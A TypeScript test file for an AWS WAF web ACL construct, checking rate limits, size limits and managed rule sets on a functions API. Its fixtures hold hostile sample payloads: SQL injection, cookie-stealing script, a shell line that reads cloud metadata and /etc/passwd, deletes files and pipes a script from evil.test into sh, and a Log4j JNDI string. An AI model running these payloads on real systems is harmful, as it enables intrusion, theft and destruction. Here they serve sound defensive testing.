import { get } from "node:http";
import { Wafv2WebAcl } from "@cdktf/provider-aws/lib/wafv2-web-acl";
import { Wafv2WebAclAssociation } from "@cdktf/provider-aws/lib/wafv2-web-acl-association";
import { Wafv2WebAclLoggingConfiguration } from "@cdktf/provider-aws/lib/wafv2-web-acl-logging-configuration";
import { zipSync } from "fflate";
import { WebAcl } from "../../constructs/web-acl";
import { constructed } from "../support/constructed";
import type { Block } from "../support/synth";
import { arrivedAt, decide, INSPECTED_BODY_BYTES, rulesOf, type WebRequest } from "../support/web-acl";

const GIB = 1024 ** 3;
/** Programs that body rules take for attacks, which some of them are meant to. */
const SOURCES: Readonly<Record<string, string>> = {
  "Python with SQL": `import sqlite3
def handler(event):
    rows = sqlite3.connect(":memory:").execute("SELECT name FROM sqlite_master WHERE 1=1 OR '1'='1' UNION SELECT NULL; --")
    return [row[0] for row in rows]`,
  "a page with scripts": `PAGE = "<html><script>alert(document.cookie)</script><img src=x onerror=\\"fetch('//evil.test')\\">"
def handler(event):
    return PAGE`,
  "a shell": `import os, subprocess
def handler(event):
    subprocess.run("curl http://169.254.169.254/latest/meta-data/; cat /etc/passwd; rm -rf ../../*", shell=True)
    return os.popen("id; wget http://evil.test/x.sh | sh").read()`,
  "Java deserialization and Log4j": `PAYLOAD = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="
HEADER = "$" + "{jndi:ldap://evil.test/a}"
CHAIN = "org.apache.commons.collections.functors.InvokerTransformer java.lang.Runtime.getRuntime().exec"
def handler(event):
    return [PAYLOAD, HEADER, CHAIN]`,
};
const SETS = ["AWSManagedRulesCommonRuleSet", "AWSManagedRulesSQLiRuleSet", "AWSManagedRulesKnownBadInputsRuleSet"];

function webAcl(maxBodyBytes = GIB) {
  return constructed((scope) => {
    new WebAcl(scope, "web-acl", {
      name: "front",
      rateLimitPer5Minutes: 1000,
      maxBodyBytes,
      codePathPrefix: "/v1/functions",
      loadBalancerArn: "arn:lb",
      logRetentionDays: 30,
    });
  });
}

describe("WebAcl", () => {
  const synthesis = webAcl();
  const acl = synthesis.resource("aws_wafv2_web_acl");
  const decision = (request: WebRequest) =>
    decide(acl, { ...request, headers: { "user-agent": "test", ...request.headers } });

  test("is regional, allows by default and is associated with the load balancer", () => {
    expect(synthesis.text).toHaveResourceWithProperties(Wafv2WebAcl, {
      name: "front",
      scope: "REGIONAL",
      default_action: { allow: {} },
    });
    expect(synthesis.text).toHaveResourceWithProperties(Wafv2WebAclAssociation, {
      web_acl_arn: synthesis.reference("aws_wafv2_web_acl", undefined, "arn"),
      resource_arn: "arn:lb",
    });
  });

  test("has the rate limit, the size limit, the three managed sets, and the rule for their body rules", () => {
    expect(rulesOf(acl).map(({ name }) => name)).toEqual([
      "RateLimitRule",
      "SizeConstraintRule",
      ...SETS,
      "BodyRulesOutsideCodePaths",
    ]);
  });

  test("no two rules share a priority, a name or a metric", () => {
    const rules = acl.rule as { name: string; priority: number; visibility_config: { metric_name: string } }[];
    for (const values of [
      rules.map(({ name }) => name),
      rules.map(({ priority }) => priority),
      rules.map(({ visibility_config }) => visibility_config.metric_name),
    ]) {
      expect(new Set<string | number>(values).size).toBe(rules.length);
    }
  });

  test("in the managed sets body rules only count, and no other rule is touched", () => {
    for (const set of SETS) {
      const overrides = rulesOf(acl).find(({ name }) => name === set)?.statement.managed_rule_group_statement
        ?.rule_action_override;
      expect(overrides?.length).toBeGreaterThan(0);
      for (const override of overrides ?? []) {
        expect(override).toEqual({ name: expect.stringMatching(/_BODY$/), action_to_use: { count: {} } });
      }
    }
  });

  describe("source code in a body", () => {
    const upload = { bodyBytes: 40_000, bodyMatches: true, headers: { "content-length": "40000" } };

    test.each(["/v1/functions", "/v1/functions/fn_1", "/v1/functions/fn_1/invoke"])("passes on %s", (path) => {
      expect(decision({ path, ...upload })).toEqual({ action: "allow" });
    });

    test.each(["/", "/health", "/v1/keys", "/v1/jobs/job_1", "/v2/functions", "/x/v1/functions"])(
      "is blocked on %s",
      (path) => {
        expect(decision({ path, ...upload })).toEqual({ action: "block", rule: "BodyRulesOutsideCodePaths" });
      },
    );

    test.each([
      "SizeRestrictions_BODY",
      "EC2MetaDataSSRF_BODY",
      "GenericLFI_BODY",
      "GenericRFI_BODY",
      "CrossSiteScripting_BODY",
      "SQLi_BODY",
      "SQLiExtendedPatterns_BODY",
      "JavaDeserializationRCE_BODY",
      "Log4JRCE_BODY",
      "ReactJSRCE_BODY",
    ])("%s alone decides outside of the code paths, and nowhere in them", (bodyMatches) => {
      expect(decision({ path: "/v1/keys", bodyMatches }).action).toBe("block");
      expect(decision({ path: "/v1/functions", bodyMatches }).action).toBe("allow");
    });
  });

  describe("what real clients upload", () => {
    const key = { authorization: "Bearer ng_key" };
    const filler = (bytes: number) => "x = 'lorem ipsum'\n".repeat(Math.ceil(bytes / 18));
    const post =
      (path: string, body: FormData | string, headers: Record<string, string> = {}) =>
      (url: string) =>
        fetch(`${url}${path}`, { method: "POST", headers: { ...key, ...headers }, body });
    const json = (path: string, value: object) =>
      post(path, JSON.stringify(value), { "content-type": "application/json" });
    const zip = (source: string) => {
      const form = new FormData();
      form.set("name", "attack");
      form.set("code", new Blob([zipSync({ "main.py": new TextEncoder().encode(source) })]), "code.zip");
      return post("/v1/functions", form);
    };
    const sources = Object.entries(SOURCES);

    test.each(sources)("%s passes as inline code in JSON, as a zip in a form, and as an event", async (_, source) => {
      const sends = [
        json("/v1/functions", { name: "attack", code: source }),
        zip(source),
        json("/v1/functions/fn_01JD8Q4YB3R6Z7K2M5N8P0QWER/invocations", { query: source }),
      ];
      for (const send of sends) {
        const arrived = await arrivedAt(send);
        expect(arrived.body.length).toBeGreaterThan(0);
        for (const inspected of [INSPECTED_BODY_BYTES, 16 * 1024]) {
          expect(decide(acl, { ...arrived, bodyMatches: true }, inspected)).toEqual({ action: "allow" });
        }
      }
    });

    test.each([9 * 1024, 1024 ** 2])("%d bytes of source code arrive whole and pass", async (bytes) => {
      const source = `${SOURCES["Python with SQL"]}\n${filler(bytes)}`;
      const arrived = await arrivedAt(json("/v1/functions", { name: "long", code: source }));
      expect(arrived.headers["content-length"]).toBe(String(arrived.body.length));
      expect(arrived.body.length).toBeGreaterThan(bytes);
      expect(arrived.body.subarray(0, INSPECTED_BODY_BYTES).toString()).toContain("SELECT");
      expect(decide(acl, { ...arrived, bodyMatches: true })).toEqual({ action: "allow" });
    });

    test("a body that is streamed, without a length, passes: the controller measures it", async () => {
      const chunks = new ReadableStream({
        start: (controller) => {
          controller.enqueue(new TextEncoder().encode(JSON.stringify({ code: SOURCES["a shell"] })));
          controller.close();
        },
      });
      const arrived = await arrivedAt((url) =>
        fetch(`${url}/v1/functions`, { method: "POST", headers: key, body: chunks, duplex: "half" } as RequestInit),
      );
      expect(arrived.headers).not.toHaveProperty("content-length");
      expect(decide(acl, { ...arrived, bodyMatches: true })).toEqual({ action: "allow" });
    });

    test.each(sources)("%s is blocked where no source code belongs", async (_, source) => {
      const arrived = await arrivedAt(json("/v1/keys", { name: source }));
      expect(decide(acl, { ...arrived, bodyMatches: true })).toEqual({
        action: "block",
        rule: "BodyRulesOutsideCodePaths",
      });
    });

    test.each([
      ["GET", "/"],
      ["GET", "/assets/page-0123abcd.js"],
      ["GET", "/docs"],
      ["GET", "/openapi.json"],
      ["GET", "/v1/functions?name=thumbnail"],
      ["GET", "/v1/jobs?functionId=fn_01JD8Q4YB3R6Z7K2M5N8P0QWER&status=FAILED&limit=20"],
      ["GET", "/v1/jobs/job_01JD8Q4YB3R6Z7K2M5N8P0QWES/events"],
      ["GET", "/v1/jobs/job_01JD8Q4YB3R6Z7K2M5N8P0QWES/logs"],
      ["POST", "/v1/jobs/job_01JD8Q4YB3R6Z7K2M5N8P0QWES/cancellation"],
      ["POST", "/v1/keys"],
      ["DELETE", "/v1/keys/key_0123456789abcdef"],
      ["GET", "/v1/status"],
      ["GET", "/metrics"],
    ])("%s %s passes", async (method, path) => {
      const body =
        path === "/v1/keys" && method === "POST" ? JSON.stringify({ name: "ci", role: "invoker" }) : undefined;
      const callback = { "nanogrid-callback-url": "https://example.com/hooks/done?id=1" };
      const arrived = await arrivedAt((url) =>
        fetch(`${url}${path}`, { method, headers: { ...key, ...callback }, ...(body ? { body } : {}) }),
      );
      expect([arrived.method, `${arrived.path}${arrived.query ? `?${arrived.query}` : ""}`]).toEqual([method, path]);
      expect(decide(acl, arrived)).toEqual({ action: "allow" });
    });

    test("a client that does not name itself is blocked: the command line and browsers do", async () => {
      const arrived = await arrivedAt(
        (url) => new Promise((resolve) => get(`${url}/v1/functions`, { agent: false }, resolve)),
      );
      expect(decide(acl, arrived)).toEqual({ action: "block", rule: "AWSManagedRulesCommonRuleSet" });
    });
  });

  test.each(SETS)("%s still blocks an attack in the query, on the code paths too", (attackInQuery) => {
    for (const path of ["/v1/functions", "/v1/keys"]) {
      expect(decision({ path, attackInQuery })).toEqual({ action: "block", rule: attackInQuery });
    }
  });

  test("an ordinary request passes", () => {
    expect(decision({ path: "/health" })).toEqual({ action: "allow" });
    expect(decision({ path: "/v1/keys", bodyBytes: 200, headers: { "content-length": "200" } }).action).toBe("allow");
  });

  test("an address with over 1000 requests in 5 minutes is blocked", () => {
    expect(decision({ path: "/health", requestsInWindow: 1000 }).action).toBe("allow");
    expect(decision({ path: "/health", requestsInWindow: 1001 })).toEqual({ action: "block", rule: "RateLimitRule" });
    expect(rulesOf(acl)[0]?.statement.rate_based_statement).toMatchObject({
      evaluation_window_sec: 300,
      aggregate_key_type: "IP",
    });
  });

  describe("the size limit", () => {
    const sized = (length: string) => decision({ path: "/v1/functions", headers: { "content-length": length } });

    test.each([
      ["0", "allow"],
      ["1073741823", "allow"],
      ["1073741824", "allow"],
      ["1073741825", "block"],
      ["2000000000", "block"],
      ["9999999999999999999999", "block"],
      ["0001073741824", "allow"],
      ["0001073741825", "block"],
    ] as const)("a declared length of %s: %s", (length, action) => {
      expect(sized(length).action).toBe(action);
    });

    test("its pattern has at most the 512 characters that WAF takes, whatever the limit", () => {
      const lengths = [
        GIB,
        1,
        ...Array.from({ length: 15 }, (_, zeros) => 10 ** zeros * 11),
        Number.MAX_SAFE_INTEGER,
      ].map((limit) => patternOf(webAcl(limit).resource("aws_wafv2_web_acl")).length);
      expect(Math.max(...lengths)).toBeLessThanOrEqual(512);
    });

    test("its pattern is anchored at both ends, so that it never finds a number inside of another text", () => {
      expect(patternOf(acl)).toMatch(/^\^.*\$$/);
    });

    test("a body that declares nothing is left to the controller: WAF sees 8 KB of it", () => {
      expect(decision({ path: "/v1/functions", bodyBytes: 2 * GIB }).action).toBe("allow");
    });
  });

  test("is logged, where WAF may log, without the API keys", () => {
    expect(synthesis.resource("aws_cloudwatch_log_group")).toMatchObject({
      name: "aws-waf-logs-front",
      retention_in_days: 30,
    });
    expect(synthesis.text).toHaveResourceWithProperties(Wafv2WebAclLoggingConfiguration, {
      log_destination_configs: [synthesis.reference("aws_cloudwatch_log_group", undefined, "arn")],
      redacted_fields: [{ single_header: { name: "authorization" } }],
    });
  });
});

function patternOf(acl: Block): string {
  const [, size] = rulesOf(acl);
  const pattern = size?.statement.or_statement?.statement.find((each) => each.regex_match_statement);
  return pattern?.regex_match_statement?.regex_string ?? "";
}
